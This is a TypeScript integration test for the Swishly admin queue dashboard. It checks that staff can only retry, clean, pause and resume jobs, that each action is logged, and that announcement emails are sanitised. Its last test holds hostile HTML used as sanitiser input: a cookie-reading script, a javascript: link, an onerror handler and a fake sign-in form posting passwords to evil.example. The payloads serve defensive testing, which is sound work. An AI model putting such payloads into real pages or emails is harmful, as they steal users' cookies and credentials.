import { AuthService } from '@swishly/admin';
import { DomainEvent, QueueRegistry } from '@swishly/platform';
import { randomUUID } from 'node:crypto';
import { eventually } from './utils/test-config';
import { startStack, TestStack } from './utils/test-stack';

// The queue dashboard, on the real Postgres, Redis and worker with Resend on
// loopback: staff may retry failed jobs, clean finished ones, pause and resume, each recorded
// as an event naming them; the server refuses every other write of Bull Board (a job added by
// hand was run by the worker as if the system had written it); and the announcement jobs
// sanitise staff HTML again right before sending, whatever reached the queue.
let ip = 0;
const freshIp = () => `10.42.${Math.floor(++ip / 250)}.${(ip % 250) + 1}`;
const PASSWORD = 'Court-Vision-42';
const QUEUE = 'admin.send-broadcast-test';
const BOARD = `/admin/queues/api/queues/${QUEUE}`;

describe('queue dashboard: only retry, clean, pause and resume, each recorded; jobs sanitise staff HTML', () => {
  let stack: TestStack;
  let staff: { id: string; email: string; cookie: string };

  const board = (method: 'GET' | 'PUT' | 'POST' | 'PATCH', url: string, payload?: object) =>
    stack.api.inject({ method, url, payload, headers: { cookie: staff.cookie }, remoteAddress: freshIp() });
  const queue = () =>
    stack.api
      .get(QueueRegistry)
      .all()
      .find((q) => q.name === QUEUE)!;
  const jobIds = async () => (await queue().getJobs(['waiting', 'active', 'delayed', 'prioritized', 'completed', 'failed'])).map((job) => job.id).sort();
  const boardEvents = () =>
    stack.dataSource.query(`SELECT payload, metadata FROM domain_events WHERE type = 'admin.queue-dashboard-acted' ORDER BY position`) as Promise<
      { payload: { action: string; queue: string; jobId: string | null; status: string | null }; metadata: { actorType: string; actorId: string } }[]
    >;

  /** A job as the relay writes one (the log's form of a broadcast test request), added straight to Redis. */
  const handMadeJob = (event: Partial<DomainEvent> & { payload: unknown }, attempts = 1) => {
    const id = event.id ?? randomUUID();
    const data: DomainEvent = {
      id,
      position: '999999',
      streamType: 'broadcast-test',
      streamId: randomUUID(),
      version: 1,
      type: 'broadcast.test-requested',
      metadata: { actorType: 'admin', actorId: staff.id },
      occurredAt: new Date().toISOString(),
      ...event,
    };
    return queue().add('broadcast.test-requested', { events: [data] }, { jobId: `hand-made-${randomUUID()}`, attempts });
  };

  /** A job that fails at once (its event id is no uuid, so the worker's transaction refuses it). */
  async function failedJob(): Promise<string> {
    const job = await handMadeJob({ id: 'not-a-uuid', payload: { testId: randomUUID(), subject: 'Fails', html: '<p>x</p>' } });
    await eventually(
      () => job.getState(),
      (state) => state === 'failed',
    );
    return job.id!;
  }

  beforeAll(async () => {
    stack = await startStack();
    const email = `queues-${Date.now().toString(36)}@swishly.test`;
    await stack.api.get(AuthService).createOrResetAdmin(email, PASSWORD, { actorType: 'system' });
    const login = await stack.api.inject({ method: 'POST', url: '/api/auth/login', payload: { email, password: PASSWORD }, remoteAddress: freshIp() });
    const jar = Object.fromEntries(login.cookies.map((c) => [c.name, c.value]));
    staff = {
      id: login.json().user.id,
      email,
      cookie: Object.entries(jar)
        .map(([k, v]) => `${k}=${v}`)
        .join('; '),
    };
  });

  afterAll(() => stack?.stop());

  it('refuses, with 403 and nothing done, every write of the board but retry, clean, pause and resume', async () => {
    const failed = await failedJob();
    const before = await jobIds();
    const mailsBefore = stack.resend.deliveredTo(staff.email).length;

    const refused: [method: 'PUT' | 'POST' | 'PATCH', url: string, payload?: object][] = [
      [
        'POST',
        `${BOARD}/add`,
        {
          name: 'broadcast.test-requested',
          data: { id: randomUUID(), type: 'broadcast.test-requested', payload: { subject: 'x', html: '<script>x</script>' }, metadata: { actorId: staff.id } },
        },
      ],
      ['PUT', `${BOARD}/obliterate`, {}],
      ['PUT', `${BOARD}/empty`],
      ['PUT', `${BOARD}/promote`],
      ['PUT', `${BOARD}/${failed}/promote`],
      ['PATCH', `${BOARD}/${failed}/update-data`, { data: { events: [] } }],
      ['PATCH', `${BOARD}/${failed}/delay`, { delay: 1000 }],
      ['PATCH', `${BOARD}/${failed}/priority`, { priority: 1 }],
      ['PUT', `${BOARD}/concurrency`, { concurrency: 1 }],
      ['PUT', `${BOARD}/rate-limit`, { max: 1, duration: 1000 }],
      ['PUT', `${BOARD}/clean/wait`], // cleaning work not done yet is emptying the queue
      ['PUT', `${BOARD}/retry/completed`],
    ];
    for (const [method, url, payload] of refused) {
      const answer = await board(method, url, payload);
      expect([`${method} ${url}`, answer.statusCode]).toEqual([`${method} ${url}`, 403]);
      expect(answer.json()).toMatchObject({ code: 'forbidden' });
    }
    // Nothing was added, removed or changed: the failed job is still there, as it was.
    expect(await jobIds()).toEqual(before);
    expect(await queue().getJobState(failed)).toBe('failed');
    expect((await queue().getJob(failed))!.data.events[0].id).toBe('not-a-uuid');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(stack.resend.deliveredTo(staff.email)).toHaveLength(mailsBefore);
    expect(await boardEvents()).toEqual([]);
  });

  it('records each retry, clean, pause and resume as an event naming the staff member', async () => {
    const failed = await failedJob();
    const retried = await board('PUT', `${BOARD}/${failed}/retry`);
    expect(retried.statusCode).toBe(204);
    expect(await boardEvents()).toEqual([
      { payload: { action: 'retry', queue: QUEUE, jobId: failed, status: null }, metadata: expect.objectContaining({ actorType: 'admin', actorId: staff.id }) },
    ]);
    await eventually(
      () => queue().getJobState(failed),
      (state) => state === 'failed',
    );

    expect((await board('PUT', `${BOARD}/retry/failed`)).statusCode).toBe(200);
    await eventually(
      () => queue().getJobState(failed),
      (state) => state === 'failed',
    );
    expect((await board('PUT', `${BOARD}/${failed}/clean`)).statusCode).toBe(204);
    expect(await queue().getJob(failed)).toBeUndefined();
    expect((await board('PUT', `${BOARD}/clean/completed`)).statusCode).toBe(200);
    expect((await board('PUT', `${BOARD}/pause`)).statusCode).toBe(200);
    expect(await queue().isPaused()).toBe(true);
    expect((await board('PUT', `${BOARD}/resume`)).statusCode).toBe(200);
    expect(await queue().isPaused()).toBe(false);

    const recorded = await boardEvents();
    expect(recorded.map((e) => [e.payload.action, e.payload.jobId, e.payload.status])).toEqual([
      ['retry', failed, null],
      ['retry', null, 'failed'],
      ['clean', failed, null],
      ['clean', null, 'completed'],
      ['pause', null, null],
      ['resume', null, null],
    ]);
    expect(recorded.every((e) => e.metadata.actorId === staff.id && e.payload.queue === QUEUE)).toBe(true);
    // A refused or failed write records nothing.
    expect((await board('PUT', `${BOARD}/${failed}/retry`)).statusCode).toBe(403); // no such job any more
    expect(await boardEvents()).toHaveLength(recorded.length);
  });

  it('sends a hand-made announcement test sanitised: no script, no javascript: link, no form', async () => {
    const testId = randomUUID();
    const html =
      '<p>Hello</p><script>alert(document.cookie)</script><a href="javascript:alert(1)">Click</a>' +
      '<form action="https://evil.example/steal" method="post"><input name="password"><button>Sign in</button></form>' +
      '<img src="x" onerror="alert(2)"><a href="https://swishly.test/download">Get the app</a>';
    await handMadeJob({ payload: { testId, subject: 'Hand-made', html } });
    const [sent] = await eventually(
      async () => stack.resend.deliveredTo(staff.email).filter((m) => m.body.subject === '[Test] Hand-made'),
      (mails) => mails.length === 1,
    );
    const body = sent.body.html;
    expect(body).toContain('<p>Hello</p>');
    expect(body).toContain('href="https://swishly.test/download"');
    expect(body).not.toMatch(/<script|javascript:|<form|<input|onerror|alert\(/i);
  });
});
